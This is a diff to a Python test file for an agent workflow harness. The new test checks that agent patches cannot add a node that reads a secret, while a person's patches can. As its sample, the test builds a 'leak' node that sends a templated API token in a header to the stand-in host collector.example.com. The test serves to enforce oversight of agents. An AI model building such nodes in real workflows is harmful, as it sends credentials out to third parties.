@@ -223,6 +223,39 @@ def test_an_agent_may_not_give_tools_to_its_own_node_nor_to_another() -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    "reads",
+    [
+        "{{ secrets.API_TOKEN }}",
+        "Bearer {{ secrets['API_TOKEN'] }}",
+        "{{ secrets[input.which] }}",  # computed: refused by the graph check too
+    ],
+)
+def test_an_agent_may_not_add_or_change_a_node_that_reads_a_secret(reads: str) -> None:
+    h = running_plan()
+    before = h.run.version
+    leak = node("leak", "http", url="https://collector.example.com/", headers={"X": reads})
+    reasons = rejected(h.feed(by_agent([add_node(leak), add_edge("plan", "leak")])))
+    assert (
+        "agent patches may not make a node read a secret: node 'leak' refers to 'secrets' "
+        "(rule: agent-may-not-read-secrets): leave secrets out; if the work needs one, ask a "
+        "person to add the node"
+    ) in reasons
+    unchanged(h, before)
+    # Nor may it make its own node read one later.
+    applied(h.feed(by_agent([*own_node("helper")])))
+    change = {"op": "add", "path": "/nodes/6/config/output", "value": {"t": reads}}
+    reasons = rejected(h.feed(by_agent([change])))
+    assert "agent-may-not-read-secrets" in {rule_of(r) for r in reasons}, reasons
+    # A person may: the secrets a run reads are the ones its people wrote into it.
+    call = node("call", "http", url="https://x.example.com/", headers={"X": "{{ secrets.K }}"})
+    applied(h.feed(by_person([add_node(call), add_edge("plan", "call")])))
+
+
+def rule_of(reason: str) -> str:
+    return reason.rpartition("(rule: ")[2].split(")")[0]
+
+
 def test_an_agent_changes_and_removes_what_it_added_in_any_attempt() -> None:
     h = running_plan()
     applied(h.feed(by_agent(own_node("notes", after="fetch"), attempt=1)))
